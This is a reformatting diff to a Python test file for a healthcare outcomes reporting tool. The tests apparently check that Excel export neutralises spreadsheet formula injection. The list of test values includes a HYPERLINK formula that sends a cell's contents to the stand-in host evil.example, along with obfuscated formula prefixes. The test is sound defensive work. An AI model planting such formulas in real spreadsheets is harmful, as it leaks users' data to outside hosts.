@@ -15,13 +15,25 @@ import pytest
 from openpyxl import load_workbook
 from pypdf import PdfReader
 
-from outcomes.present import pdf as export
-from outcomes.present import notice
 from outcomes.present import files as output
+from outcomes.present import notice
+from outcomes.present import pdf as export
 
 LINK = '=HYPERLINK("http://evil.example/?"&A2,"click")'
-FORMULAS = [LINK, "+1+1", "-1+1", "@SUM(A1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "  +cmd", "\t\t@x",
-            "\u3000=1", "＝1+1"]
+FORMULAS = [
+    LINK,
+    "+1+1",
+    "-1+1",
+    "@SUM(A1)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    " =1+1",
+    "  +cmd",
+    "\t\t@x",
+    "\u3000=1",
+    "＝1+1",
+]
 
 
 @pytest.mark.parametrize("value", FORMULAS, ids=range(len(FORMULAS)))
@@ -89,7 +101,11 @@ def test_notice_text_is_configurable(tmp_path, monkeypatch):
     path.write_text('[notice]\nshort = "Part 2 records: do not redisclose."\ndata_use = "Internal QI use only."\n')
     monkeypatch.setenv("OUTCOMES_NOTICE", str(path))
     n = notice.load()
-    assert (n.short, n.data_use, n.part2) == ("Part 2 records: do not redisclose.", "Internal QI use only.", notice.PART2)
+    assert (n.short, n.data_use, n.part2) == (
+        "Part 2 records: do not redisclose.",
+        "Internal QI use only.",
+        notice.PART2,
+    )
     book = load_workbook(io.BytesIO(output.to_excel(_table())))
     assert book["Notice"]["A4"].value == "Internal QI use only."
     charts = [export.Chart("c", go.Figure(go.Bar(x=["a"], y=[20])))]
